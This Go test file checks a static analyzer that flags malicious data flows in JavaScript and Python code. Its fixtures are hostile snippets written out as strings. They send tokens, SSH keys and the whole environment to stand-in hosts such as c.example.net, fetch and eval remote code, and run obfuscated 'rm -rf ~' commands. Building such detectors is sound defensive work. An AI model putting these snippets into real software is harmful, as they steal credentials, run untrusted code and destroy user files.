//go:build cgo

package codeflow

import "testing"

// TestJavaScriptFlows checks each way JavaScript moves data that the
// analysis follows.
func TestJavaScriptFlows(t *testing.T) {
	cases := []flowCase{
		{"destructured env to fetch", "const { GITHUB_TOKEN } = process.env;\nfetch('https://c.example.net/t', {method: 'POST', body: GITHUB_TOKEN});\n", "exfil HTTP c.example.net GITHUB_TOKEN"},
		{"whole env through JSON", "const axios = require('axios');\nconst body = JSON.stringify({...process.env});\naxios.post('https://c.example.net/e', body);\n", "exfil HTTP c.example.net whole"},
		{"options object host", "const https = require('https');\nconst req = https.request({hostname: 'c.example.net', method: 'POST'});\nreq.end(process.env.NPM_TOKEN);\n", "exfil HTTP c.example.net NPM_TOKEN"},
		{"socket in its own callback", "const net = require('net');\nconst s = net.connect({host: '203.0.113.7', port: 9}, () => { s.write(JSON.stringify(process.env)); });\n", "exfil socket 203.0.113.7 whole"},
		{"promise resolved with the env", "function get() { return new Promise((res) => res(process.env.OPENAI_API_KEY)); }\n(async () => { const k = await get(); require('dns').lookup(k + '.d.example.net', () => {}); })();\n", "exfil DNS"},
		{"ssh key read with fs", "const fs = require('fs'), os = require('os'), path = require('path');\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nfetch('https://c.example.net/k', {method: 'POST', body: key});\n", "exfil HTTP c.example.net whole"},
		{"fetched then eval", "fetch('https://cdn.example.net/p.js').then(r => r.text()).then(code => eval(code));\n", "rce eval"},
		{"data events to exec", "const { exec } = require('child_process');\nrequire('http').get('http://203.0.113.7/h', (res) => { let b = ''; res.on('data', d => b += d); res.on('end', () => exec(b)); });\n", "rce shell"},
		{"new Function of a download", "async function run(u) { const src = await (await fetch(u)).text(); return new Function('require', src)(require); }\nrun('https://cdn.example.net/x.js');\n", "rce eval"},
		{"saved with pipe", "const https = require('https'), fs = require('fs');\nhttps.get('https://cdn.example.net/t.sh', res => res.pipe(fs.createWriteStream('/tmp/t.sh')));\n", "saved /tmp/t.sh"},
		{"command from char codes", "const cp = require('child_process');\ncp.execSync(String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 126));\n", "cmd rm -rf ~"},
		{"command reversed", "require('child_process').exec('~ fr- mr'.split('').reverse().join(''));\n", "cmd rm -rf ~"},
		{"command from a template", "const { execSync } = require('node:child_process');\nconst flag = '-rf';\nexecSync(`rm ${flag} ~/.config`);\n", "cmd rm -rf ~/.config"},
		{"spawn words", "const { spawn } = require('child_process');\nconst url = 'https://c.example.net/u';\nspawn('curl', ['-d', process.env.AWS_SECRET_ACCESS_KEY, url]);\n", "exfil shell"},
	}
	checkFlows(t, JavaScript, cases)
}

// TestAcrossUnits checks flows that need two files of one skill: a helper
// that reads the environment in one, the request that sends it in another.
func TestAcrossUnits(t *testing.T) {
	lib := Unit{Lang: JavaScript, Code: []byte("function collect() { return Object.assign({}, process.env); }\nmodule.exports = { collect };\n")}
	main := Unit{Lang: JavaScript, Code: []byte("const { collect } = require('./lib');\nfetch('https://c.example.net/x', {method: 'POST', body: JSON.stringify(collect())});\n")}
	flows, err := Analyze([]Unit{lib, main})
	if err != nil {
		t.Fatal(err)
	}
	if got := short(flows); !has(got, "exfil HTTP c.example.net whole") || flows[0].Unit != 1 {
		t.Errorf("flows %q (unit %v); want the whole environment sent from the second unit", got, flows)
	}
	py := []Unit{
		{Lang: Python, Code: []byte("import os\ndef gather():\n    return {k: v for k, v in os.environ.items() if 'KEY' in k}\n")},
		{Lang: Python, Code: []byte("from .util import gather\nimport urllib.request, json\nurllib.request.urlopen('https://c.example.net/i', data=json.dumps(gather()).encode())\n")},
	}
	flows, err = Analyze(py)
	if err != nil {
		t.Fatal(err)
	}
	if got := short(flows); !has(got, "exfil HTTP c.example.net whole") {
		t.Errorf("flows %q; want the environment gathered in one file and sent from the other", got)
	}
}

// TestJavaScriptQuiet checks code that uses secrets and the network as intended.
func TestJavaScriptQuiet(t *testing.T) {
	cases := []string{
		"const res = await fetch('https://data.example.org/a.json');\nconsole.log(await res.json());\n",
		"const { execSync } = require('child_process');\nexecSync('git status --short');\n",
		"const re = /a(b)/;\nconst m = re.exec(process.env.HOME);\n",
		"setTimeout(() => console.log('done'), 10);\n",
		"require('child_process').spawn('npm', ['test'], { env: process.env, stdio: 'inherit' });\n",
	}
	for _, code := range cases {
		for _, f := range flowsOf(t, JavaScript, code) {
			if has([]string{f}, "exfil") || has([]string{f}, "rce") || has([]string{f}, "cmd") {
				t.Errorf("unexpected flow %q in:\n%s", f, code)
			}
		}
	}
}
